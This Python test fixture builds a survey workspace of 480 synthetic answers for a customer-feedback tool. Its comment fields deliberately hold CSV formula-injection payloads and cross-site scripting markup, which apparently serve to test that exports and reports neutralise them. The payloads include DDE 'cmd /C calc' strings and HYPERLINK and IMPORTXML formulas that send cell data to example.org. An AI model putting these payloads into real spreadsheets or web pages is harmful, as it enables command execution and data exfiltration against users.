"""A workspace with two half years of answers, in which people have names and texts are as hostile as texts can be."""

from __future__ import annotations

import csv
from contextvars import ContextVar
from datetime import date, timedelta
from io import StringIO
from pathlib import Path

import pytest

from cxdesk.domain.periods import Period
from cxdesk.domain.query import Compare, CompareTo, Query
from cxdesk.domain.report import Recipe
from cxdesk.workspace import handover
from cxdesk.workspace.importing import ImportOptions, import_files
from cxdesk.workspace.workspace import Workspace

PEOPLE = ("Zyxwvka Qwertson", "Vlad Brîndușoiu", "Odette Carambole", "Mirunela Țăndărescu")
PAYLOADS = (
    '=HYPERLINK("http://example.org/?x="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'DDE ("cmd";"/C calc";"!A0")',
)
MARKUP = '<img src="file:///nowhere/canary.png" onerror="alert(1)"><script>alert(2)</script> &amp; <b>bold</b>'
PLANS = ("Starter", "=1+1", "Team <b>", "@Business")
HALF = Period(date(2026, 1, 1), date(2026, 7, 1))


def workspace(folder: Path) -> Workspace:
    """An open workspace of 480 answers and four customers with names."""
    made = Workspace.create(folder / "surveyed.cxdesk")
    made.set_setting("zone", "UTC")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(handover, "_HERE", ContextVar("here", default=True))
        for name, text in (("customers.csv", _customers()), ("answers.csv", _answers())):
            add(made, folder, name, text)
    return made


def add(made: Workspace, folder: Path, name: str, text: str) -> None:
    """Import one more file."""
    path = folder / name
    path.write_text(text, encoding="utf-8")
    (report,) = import_files(made, [path], ImportOptions())
    assert report.error is None
    assert not report.open_doubts


def _customers() -> str:
    rows = [[f"cust-zq-{at}", name, mail(at), "FR"] for at, name in enumerate(PEOPLE)]
    return _csv([["Customer ID", "Name", "Email", "Country"], *rows])


def mail(at: int) -> str:
    return f"{PEOPLE[at].split()[0].lower()}.{at}@example.org"


def late(n: int = 40) -> str:
    """Answers of the half year that come after it was closed."""
    head = ["Response ID", "Date", "Customer ID", "How likely are you to recommend us? (0-10)", "Comment", "Plan"]
    return _csv([head, *([f"late{at}", f"2026-03-{at % 28 + 1:02d}", "", 0, "", "Starter"] for at in range(n))])


def _answers() -> str:
    rows: list[list[object]] = [
        ["Response ID", "Date", "Customer ID", "How likely are you to recommend us? (0-10)", "Comment", "Plan"]
    ]
    for at in range(480):
        day = date(2025, 7, 2) + timedelta(days=at * 370 // 480)
        plan, who = PLANS[at * 7 % 4], at % 40
        worse = day >= HALF.start and plan == "=1+1"
        score = at * 5 % 7 if worse else 6 + at * 3 % 5
        known = f"cust-zq-{who}" if who < len(PEOPLE) else ""
        rows.append([f"r{at}", day.isoformat(), known, score, _words(at, who), plan])
    return _csv(rows)


def _words(at: int, who: int) -> str:
    if who < len(PEOPLE):
        return f"I am {PEOPLE[who]}, call me at +40 721 555 0{at:03d} or {mail(who)}, number {at} of my letters"
    if at % 9 == 0:
        return f"{PAYLOADS[at // 9 % len(PAYLOADS)]} and so on, number {at}"
    return f"{MARKUP} said somebody, number {at}" if at % 5 == 0 else ""


def _csv(rows: list[list[object]]) -> str:
    out = StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def recipe(language: str = "en", personal: bool = False, split: str | None = "Plan") -> Recipe:
    """Everything of the second half year, held against the first."""
    query = Query(range=HALF, compare=Compare(CompareTo.PREVIOUS), split=split)
    return Recipe(query=query, language=language, personal=personal, comments=40)
